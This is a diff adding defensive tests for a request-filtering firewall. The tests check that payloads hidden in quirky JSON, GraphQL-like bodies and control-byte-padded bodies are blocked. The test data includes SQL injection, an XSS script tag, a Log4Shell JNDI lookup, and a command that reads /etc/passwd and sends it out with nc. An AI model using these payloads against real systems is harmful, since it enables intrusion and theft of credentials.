@@ -157,6 +157,34 @@ describe('a string of JSON', () => {
     assert.equal(post(`{"id":"${'a '.repeat(20_000)}${cased}"}`, 'application/json'), 'block')
   })
 
+  const QUOTED = [
+    SQL,
+    '1 UNION SELECT password FROM users',
+    '<script>alert(1)</script>',
+    '; cat /etc/passwd | nc 10.1.1.1 99',
+  ]
+  const around = (text: string): string[] => [
+    `{'id':'${text}'}`,
+    `{id:'${text}'}`,
+    `{id:1,b:{c:['${text}']}}`,
+    `{"a":"6' by 4'","id":'${text}'}`,
+    `/* it's */{"id":/* it's */'${text}'}`,
+    `query:'${text}'}`,
+  ]
+  test('is read in single quotes, behind names without quotes and beside comments (Newtonsoft.Json, Gson)', () => {
+    for (const attack of QUOTED)
+      for (const text of [
+        attack.replaceAll("'", "\\'"),
+        attack.replace(/[^a-z ]/gi, letter => `\\u00${letter.charCodeAt(0).toString(16)}`),
+      ])
+        for (const body of around(text)) assert.equal(post(body, 'application/json'), 'block', body)
+  })
+
+  test('in single quotes may hold what it likes that attacks nothing', () => {
+    for (const body of around('say "hi" to Anne, and select a union of both'))
+      assert.equal(post(body, 'application/json'), 'pass', body)
+  })
+
   test('may hold backslashes of other things', () => {
     for (const body of [
       '{"file":"C:\\Temp\\My Documents"}',
@@ -166,6 +194,83 @@ describe('a string of JSON', () => {
       assert.equal(post(body, 'application/json'), 'pass', body)
   })
 })
+
+describe('what begins like a GraphQL document', () => {
+  const ATTACKS = [
+    SQL,
+    '<script>alert(1)</script>',
+    '; cat /etc/passwd | nc 10.1.1.1 99',
+    '${jndi:ldap://x.example/a}',
+  ]
+  test('is read as a text where it goes on as something else', () => {
+    for (const attack of ATTACKS)
+      for (const body of [
+        `{id:'${attack}'}`,
+        `query { a } ${attack}`,
+        `mutation x{}\n${attack}`,
+        `{ a } # ${attack}`,
+        `{a(b:"c")}${attack}`,
+      ])
+        for (const type of ['text/plain', 'application/json', 'application/graphql', 'application/x-other'])
+          assert.equal(post(body, type), 'block', `${type} ${body}`)
+  })
+
+  test('is read as one otherwise', () => {
+    for (const body of [
+      '{ user(id: 1, name: "x") { id ... on Admin { rights } } }',
+      'query Q($id: ID! = "1", $n: [Int!]) @a(b: {c: $id, d: -1.5e+3}) { a: user(id: $id) { ...F } } fragment F on User { id }',
+      "{ a } # it's a comment; and or union",
+      'mutation { note(text: """# A heading\nIt\'s one;\n## Another; and more""") { id } }',
+    ])
+      assert.equal(post(body, 'application/graphql'), 'pass', body)
+  })
+})
+
+describe('bytes that are not text', () => {
+  const CONTROLS = ['\0', '\u0001', 'x\0'].map(unit => unit.repeat(4_000))
+  const TYPES = ['application/json', 'text/plain', 'application/octet-stream', 'application/pdf', '']
+  test('are read as the JSON that they begin with: the decoder of Go and Jackson leave what follows', () => {
+    for (const controls of CONTROLS)
+      for (const type of TYPES)
+        for (const body of [
+          `{"id":"${SQL}"}${controls}`,
+          `{"a":1}\n{"id":"${SQL}"}${controls}`,
+          `{"id":"${SQL}","note":"${controls}"}`,
+          `{"note":"${controls}","id":"${SQL}"}`,
+          `[1,{'id':'${SQL.replace("'", "\\'")}'}]${controls}`,
+        ])
+          assert.equal(post(body, type), 'block', type)
+  })
+
+  test('are read as the XML, and as the text, that they begin with', () => {
+    for (const controls of CONTROLS) {
+      for (const body of [`<a><id>${SQL}</id></a>${controls}`, `<a b="${controls}"><id>${SQL}</id></a>`])
+        assert.equal(post(body, 'application/xml'), 'block')
+      assert.equal(post(`${'a word '.repeat(100)}${SQL}${controls}`, 'text/plain'), 'block')
+    }
+  })
+
+  test('pass where a message begins with JSON and goes on with a file', () => {
+    const noise = seededBytes(7, 20_000)
+    for (const head of [
+      '{"event_id":"9ec7"}\n{"type":"replay_recording","length":20000}\n',
+      '{"v":1}',
+      '[1,2]',
+    ])
+      for (const type of ['application/x-sentry-envelope', 'application/json', 'application/octet-stream'])
+        assert.equal(post(Buffer.concat([Buffer.from(head), noise]), type), 'pass', `${type} ${head}`)
+  })
+})
+
+function seededBytes(seed: number, length: number): Buffer {
+  let state = seed
+  return Buffer.from(
+    Array.from({ length }, () => {
+      state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0
+      return state >>> 24
+    }),
+  )
+}
 
 describe('a form', () => {
   test('is read behind semicolons, as old parsers part its fields', () => {
